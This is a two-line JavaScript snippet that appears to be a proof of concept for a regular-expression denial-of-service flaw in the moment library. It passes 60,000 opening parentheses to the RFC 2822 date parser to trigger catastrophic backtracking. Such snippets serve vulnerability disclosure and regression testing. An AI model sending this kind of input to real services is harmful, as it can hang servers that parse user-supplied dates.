const moment = require('moment');
moment('('.repeat(60000), moment.RFC_2822);
